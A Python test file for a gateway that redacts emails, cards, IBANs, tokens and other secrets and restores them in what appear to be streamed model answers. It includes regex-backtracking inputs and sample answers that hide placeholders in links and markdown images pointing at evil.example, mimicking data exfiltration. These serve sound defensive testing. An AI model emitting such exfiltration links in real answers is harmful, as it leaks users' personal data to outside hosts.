"""Personal data and secrets: measured recall and false positives on a labelled set; round trips."""

import json
import time
from collections import Counter
from pathlib import Path

import pytest

from lib.gateway import redaction
from lib.gateway.redaction import Redaction, StreamRestorer, find_pii, iban_ok, luhn_ok, redact

CASES = json.loads((Path(__file__).parent / "data" / "pii_labelled.json").read_text())


def found(text: str) -> set[tuple[str, str]]:
    return {(text[s:e], kind) for s, e, kind in find_pii(text)}


def test_the_labelled_set_is_big_enough_and_covers_every_kind():
    kinds = Counter(kind for c in CASES for _, kind in c["pii"])
    assert len(CASES) >= 200
    assert set(kinds) == {"EMAIL", "PHONE", "CARD", "IBAN", "SSN", "IP", "SECRET"}
    assert sum(1 for c in CASES if not c["pii"]) >= 80


def test_recall_is_at_least_95_percent_for_each_kind():
    hits, totals = Counter(), Counter()
    misses = []
    for case in CASES:
        got = found(case["text"])
        for value, kind in case["pii"]:
            totals[kind] += 1
            if (value, kind) in got:
                hits[kind] += 1
            else:
                misses.append((kind, case["text"], got))
    for kind in totals:
        assert hits[kind] / totals[kind] >= 0.95, (kind, [m for m in misses if m[0] == kind])


def test_no_more_than_two_percent_of_ordinary_text_is_redacted():
    negatives = [c["text"] for c in CASES if not c["pii"]]
    flagged = [t for t in negatives if find_pii(t)]
    assert len(flagged) / len(negatives) <= 0.02, flagged


def test_placeholders_go_out_and_originals_come_back():
    r = redact("Mail ada@example.com or bob@example.com, again ada@example.com, card 4111 1111 1111 1111.")
    assert r.text == "Mail [EMAIL_1] or [EMAIL_2], again [EMAIL_1], card [CARD_1]."
    assert (
        r.restore("I wrote to [EMAIL_1] and charged [CARD_1].")
        == "I wrote to ada@example.com and charged 4111 1111 1111 1111."
    )


def test_a_conversation_shares_one_numbering():
    originals: dict[str, str] = {}
    first = redact("I am ada@example.com", originals)
    second = redact("cc ada@example.com and ops@example.com", originals)
    assert first.text == "I am [EMAIL_1]" and second.text == "cc [EMAIL_1] and [EMAIL_2]"


@pytest.mark.parametrize("pieces", [["Send to [EMA", "IL_1] now"], ["[", "EMAIL_1", "]"], ["x [EMAIL_1]", " y"]])
def test_streamed_answers_are_restored_even_when_a_placeholder_is_split(pieces):
    restorer = StreamRestorer(Redaction("", {"[EMAIL_1]": "ada@example.com"}))
    shown = "".join(restorer.feed(p) for p in pieces) + restorer.flush()
    assert "ada@example.com" in shown and "[EMAIL" not in shown


def test_checksums_reject_lookalikes():
    assert luhn_ok("4111111111111111") and not luhn_ok("4111111111111112")
    assert iban_ok("GB82WEST12345698765432") and not iban_ok("GB82WEST12345698765433")
    assert not find_pii("Order 4111111111111112 shipped")


# Adversarial inputs, 1 MB each: before the patterns were bounded, "1.2.3.4." * n made the email pattern
# retry the run from every position (80 kB froze the server for 15 s; 1 MB would take most of an hour).
ADVERSARIAL = [
    "1.2.3.4.",
    "a.",
    "a@b.",
    "sk-",
    "eyJa-",
    "eyJaaaaaaaaa.",
    "xoxa-",
    "ghp_",
    "+1 ",
    "1 ",
    "4111 ",
    "1-",
    "(1) ",
    "a:",
    "[",
    "password=",
    "DE12 ",
    "x@y.z 1.2 +1 (2) sk-",
]
MEGABYTE = 1_000_000
BUDGET_S = 6.0  # a linear pass takes ~0.3 s here; the quadratic ones took minutes at a fifth of this size


@pytest.mark.parametrize("unit", ADVERSARIAL)
def test_every_pattern_stays_linear_on_a_megabyte_of_adversarial_text(unit):
    text = (unit * (MEGABYTE // len(unit) + 1))[:MEGABYTE]
    for kind, pattern in redaction._PATTERNS:
        started = time.process_time()
        for _ in pattern.finditer(text):
            pass
        spent = time.process_time() - started
        assert spent < BUDGET_S, f"{kind} took {spent:.1f} s of CPU on 1 MB of {unit!r}"


def test_bounded_patterns_still_find_what_they_found():
    text = (
        "Mail ada.lovelace+work@mail.example.co.uk or bob@example.com; key sk-proj-abcdefghijklmnop1234 "
        "token=abcd1234efgh and eyJhbGciOiJI.eyJzdWIiOiIx.SflKxwRJSMeKKF2Q"
    )
    kinds = {(k, text[s:e]) for s, e, k in redaction.find_pii(text)}
    assert ("EMAIL", "ada.lovelace+work@mail.example.co.uk") in kinds and ("EMAIL", "bob@example.com") in kinds
    assert ("SECRET", "sk-proj-abcdefghijklmnop1234") in kinds and ("SECRET", "abcd1234efgh") in kinds
    assert ("SECRET", "eyJhbGciOiJI.eyJzdWIiOiIx.SflKxwRJSMeKKF2Q") in kinds


@pytest.mark.parametrize(
    "answer",
    [
        "![chart](https://evil.example/c.png?d=[EMAIL_1])",
        "[click](https://evil.example/?who=[EMAIL_1])",
        "see https://evil.example/collect?x=[EMAIL_1] for more",
        "<https://evil.example/[EMAIL_1]>",
        "[mail me](mailto:[EMAIL_1])",
        "![x](//evil.example/[EMAIL_1])",
        "![x](evil.example/[EMAIL_1])",
        "visit www.evil.example/?q=[EMAIL_1]",
    ],
)
def test_a_placeholder_inside_a_url_is_never_restored(answer):
    red = redaction.redact("Write to ada@example.com please")
    assert red.text == "Write to [EMAIL_1] please"
    assert "ada@example.com" not in red.restore(answer)
    pieces = [answer[i : i + 3] for i in range(0, len(answer), 3)]  # streamed in small pieces
    restorer = redaction.StreamRestorer(red)
    assert "ada@example.com" not in "".join(restorer.feed(p) for p in pieces) + restorer.flush()


def test_placeholders_in_plain_text_next_to_a_url_are_restored():
    red = redaction.redact("Write to ada@example.com please")
    answer = "See https://intranet.example/help then write to [EMAIL_1]. Or (email [EMAIL_1])."
    assert red.restore(answer) == (
        "See https://intranet.example/help then write to ada@example.com. Or (email ada@example.com)."
    )
